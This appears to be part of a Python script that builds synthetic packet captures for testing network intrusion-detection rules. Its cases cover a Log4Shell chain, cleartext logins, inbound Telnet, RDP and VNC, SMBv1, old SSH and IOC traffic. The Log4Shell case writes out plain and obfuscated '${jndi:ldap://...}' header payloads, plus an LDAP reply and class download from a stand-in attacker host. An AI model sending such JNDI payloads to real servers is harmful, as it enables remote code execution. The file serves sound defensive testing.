    """Log4Shell chain against a HOME_NET Java server: a plain ${jndi:ldap://} User-Agent, an obfuscated
    ${${lower:j}ndi:...} header, the LDAP reply with javaCodeBase, and the Java class download."""
    tcp_session(cap, ATT, WEB, 45800, 8080, [
        ("c", http_get(b"/login", b"app.example.com", ua=b"${jndi:ldap://203.0.113.66:1389/Exploit}")),
        ("s", http_resp(b"<html>login</html>"))])
    tcp_session(cap, ATT2, WEB, 45801, 8080, [
        ("c", http_get(b"/api", b"app.example.com", extra=b"X-Api-Version: ${${lower:j}${lower:n}di:ldap://203.0.113.77/a}\r\n")),
        ("s", http_resp(b"{}", b"application/json"))])
    ldap_reply = (bytes.fromhex("3081900201026481 8a04016130818430160409".replace(" ", "")) + b"javaClassName" +
                  bytes.fromhex("3105040366 6f6f302a040c".replace(" ", "")) + b"javaCodeBase" +
                  bytes.fromhex("311a0418") + b"http://203.0.113.66:80/" + b"\x30\x24\x04\x0bobjectClass" +
                  b"\x31\x15\x04\x13javaNamingReference")
    tcp_session(cap, WEB, ATT, 45802, 1389, [
        ("c", bytes.fromhex("300c020101600702010304008000")), ("s", bytes.fromhex("300c02010161070a010004000400")),
        ("c", bytes.fromhex("3025020102632004016130100a01000a0103020100020100010100870b6f626a656374436c617373")),
        ("s", ldap_reply)])
    tcp_session(cap, WEB, ATT, 45803, 80, [
        ("c", http_get(b"/Exploit.class", b"203.0.113.66", ua=b"Java/1.8.0_181")),
        ("s", http_resp(b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x1d" + bytes(100), b"application/java-vm"))])


@case("mal-cleartext")
def cap_mal_cleartext(cap):
    """Clear-text secrets: an HTTP request with Basic authentication and an FTP login (USER/PASS) by HOME_NET
    clients to outside servers."""
    tcp_session(cap, WS, EXTSRV, 45900, 80, [
        ("c", http_get(b"/admin/", b"router.example.net", extra=b"Authorization: Basic YWRtaW46czNjcmV0\r\n")),
        ("s", http_resp(b"<html>admin</html>"))])
    tcp_session(cap, WS, EXTSRV2, 45901, 21, [
        ("s", b"220 FTP server ready\r\n"), ("c", b"USER backup\r\n"), ("s", b"331 Password required\r\n"),
        ("c", b"PASS s3cret\r\n"), ("s", b"230 Login successful.\r\n"), ("c", b"QUIT\r\n"), ("s", b"221 Goodbye.\r\n")])


@case("mal-telnet-in")
def cap_mal_telnet_in(cap):
    """An outside host logs in over Telnet to a HOME_NET device."""
    tcp_session(cap, ATT, PLC, 46000, 23, [
        ("s", b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"), ("c", b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27"),
        ("s", b"\xff\xfb\x03\xff\xfb\x01"), ("c", b"\xff\xfd\x03\xff\xfd\x01"),
        ("s", b"\r\nlogin: "), ("c", b"admin\r\n"), ("s", b"Password: "), ("c", b"admin\r\n"),
        ("s", b"\r\nWelcome\r\n# ")])


RDP_X224 = bytes.fromhex("e00000000000") + b"Cookie: mstshash=administrator\r\n" + bytes.fromhex("0100080003000000")
RDP_CR = struct.pack(">BBHB", 3, 0, 5 + len(RDP_X224), len(RDP_X224)) + RDP_X224
RDP_CC = bytes.fromhex("0300001308d00000123400020f080002000000")


@case("mal-remote-in")
def cap_mal_remote_in(cap):
    """Outside hosts reach remote-access services of HOME_NET: RDP (X.224 connection request with a
    cookie), VNC (RFB handshake) and SMB2 (negotiate)."""
    tcp_session(cap, ATT, FILESRV, 46100, 3389, [("c", RDP_CR), ("s", RDP_CC)])
    tcp_session(cap, ATT, WS, 46101, 5900, [("s", b"RFB 003.008\n"), ("c", b"RFB 003.008\n"), ("s", b"\x01\x02"),
                                            ("c", b"\x02")])
    tcp_session(cap, ATT, FILESRV, 46102, 445, [("c", SMB2_NEGOTIATE_REQ), ("s", SMB2_NEGOTIATE_RESP)])


@case("mal-remote-tools")
def cap_mal_remote_tools(cap):
    """A HOME_NET host resolves an AnyDesk relay and talks TeamViewer's protocol to port 5938."""
    dns_exchange(cap, WS, DNSSRV, 46200, 0x900, "relay-1a2b3c4d.net.anydesk.com", "A")
    tcp_session(cap, WS, EXTSRV, 46201, 5938, [
        ("c", bytes.fromhex("17240a0014000000") + bytes(12)), ("s", bytes.fromhex("17240b0014000000") + bytes(12)),
        ("c", bytes.fromhex("17241000d0000000") + bytes(20)), ("s", bytes.fromhex("17241100d0000000") + bytes(20))])


def smb1(command, body):
    msg = b"\xffSMB" + bytes([command]) + bytes(4) + b"\x18\x07\xc8" + bytes(12) + b"\xff\xfe\x00\x00\x01\x00" + body
    return struct.pack(">I", len(msg)) + msg


SMB1_NEGOTIATE = smb1(0x72, b"\x00" + struct.pack("<H", 12) + b"\x02NT LM 0.12\x00")
SMB1_NEGOTIATE_RESP = smb1(0x72, b"\x11\x00\x00" + bytes(34))
SMB1_SESSION_SETUP = smb1(0x73, b"\x0d\xff\x00\x00\x00\xff\xff\x02\x00\x01\x00" + bytes(14) + struct.pack("<H", 20) +
                          b"guest\x00WORKGROUP\x00Unix\x00")


@case("mal-smbv1")
def cap_mal_smbv1(cap):
    """A HOME_NET client negotiates SMBv1 (dialect NT LM 0.12 only) with a HOME_NET file server and sends a
    session setup."""
    tcp_session(cap, WS, FILESRV, 46300, 445, [("c", SMB1_NEGOTIATE), ("s", SMB1_NEGOTIATE_RESP),
                                               ("c", SMB1_SESSION_SETUP)])


@case("mal-ssh-old")
def cap_mal_ssh_old(cap):
    """A HOME_NET client with an obsolete SSH client (OpenSSH 5.3, offering arcfour and 3DES) logs in to a
    HOME_NET server."""
    def kexinit(ciphers):
        lists = [b"diffie-hellman-group1-sha1", b"ssh-rsa", ciphers, ciphers, b"hmac-md5", b"hmac-md5", b"none", b"none",
                 b"", b""]
        payload = b"\x14" + bytes(16) + b"".join(struct.pack(">I", len(x)) + x for x in lists) + b"\x00" + bytes(4)
        pad = 8 - (len(payload) + 5) % 8
        pad += 8 if pad < 4 else 0
        return struct.pack(">IB", len(payload) + pad + 1, pad) + payload + bytes(pad)
    tcp_session(cap, WS, FILESRV, 46400, 22, [
        ("s", b"SSH-2.0-OpenSSH_5.3\r\n"), ("c", b"SSH-2.0-OpenSSH_5.3\r\n"),
        ("c", kexinit(b"arcfour,3des-cbc,blowfish-cbc")), ("s", kexinit(b"arcfour,3des-cbc"))])


# ---------------------------------------------------------------- IOC cases

@case("ioc-ip")
def cap_ioc_ip(cap):
    """Traffic with the documentation-range IOC entries of rules/lists/iprep-ioc.txt: a HOME_NET client
    connects to the C2 address 192.0.2.66 and the malware host 192.0.2.77; 192.0.2.200 (scanner network)
    and 2001:db8:bad::5 (botnet network) connect to HOME_NET hosts; 192.0.2.66 connects in as well."""
    tcp_session(cap, WS, IOC_C2, 46500, 443, [("c", b"\x16\x03\x01\x00\x05hello"), ("s", b"\x16\x03\x03\x00\x02ok")])
    tcp_session(cap, WS, IOC_MALWARE, 46501, 80, [("c", http_get(b"/a.bin", b"192.0.2.77")),
                                                  ("s", http_resp(b"x" * 10, b"text/plain"))])
    Tcp(cap, IOC_SCANNER, WEB, 46502, 22).syn()
    Tcp(cap, IOC_BOTNET6, HOST6, 46503, 23).syn()
    Tcp(cap, IOC_C2, WEB, 46504, 8443).syn()


@case("ioc-ip-clean")
def cap_ioc_ip_clean(cap):
    """A HOME_NET client talks to 192.0.2.65 and 192.0.2.127, next to (not inside) the listed entries."""
    tcp_session(cap, WS, "192.0.2.65", 46600, 443, [("c", b"\x16\x03\x01\x00\x05hello")])
    tcp_session(cap, WS, "192.0.2.127", 46601, 443, [("c", b"\x16\x03\x01\x00\x05hello")])


@case("ioc-names")
def cap_ioc_names(cap):
    """Names of the IOC lists: a DNS query for c2.example.com, an HTTP request to malware.example.net and
    a TLS ClientHello with SNI beacon.example.org."""
    dns_exchange(cap, WS, DNSSRV, 46700, 0xA00, "c2.example.com", "A")
    tcp_session(cap, WS, EXTSRV, 46701, 80, [("c", http_get(b"/gate.php", b"malware.example.net")),
                                             ("s", http_resp(b"ok", b"text/plain"))])
    cert = make_cert("beacon.example.org", CA_ISSUER, *VALID, serial=1010, seed=20)
    tls_session(cap, WS, EXTSRV2, 46702, 443, client_hello("beacon.example.org"), server_flight(cert))


@case("ioc-names-clean")
def cap_ioc_names_clean(cap):
    """Names next to the IOC entries: www.c2.example.com (a subdomain, datasets match exactly), example.com,
    and TLS to c2.example.net."""
    dns_exchange(cap, WS, DNSSRV, 46800, 0xB00, "www.c2.example.com", "A")
    dns_exchange(cap, WS, DNSSRV, 46801, 0xB01, "example.com", "A")
    cert = make_cert("c2.example.net", CA_ISSUER, *VALID, serial=1011, seed=21)
    tls_session(cap, WS, EXTSRV2, 46802, 443, client_hello("c2.example.net"), server_flight(cert))


# ------------------------------------------------------------------- main

def main(argv):
    if len(argv) >= 2 and argv[1] == "--list":
        for name, fn in CASES.items():
            print("%-28s %s" % (name, (fn.__doc__ or "").strip().splitlines()[0]))
        return 0
    if len(argv) < 2:
        sys.stderr.write(__doc__)
        return 2
    out = argv[1]
    names = argv[2:] or list(CASES)
    unknown = [n for n in names if n not in CASES]
    if unknown:
        sys.stderr.write("unknown capture(s): %s\n" % ", ".join(unknown))
        return 2
    os.makedirs(out, exist_ok=True)
    for name in names:
        cap = Cap()
        CASES[name](cap)
        cap.write(os.path.join(out, name + ".pcap"))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
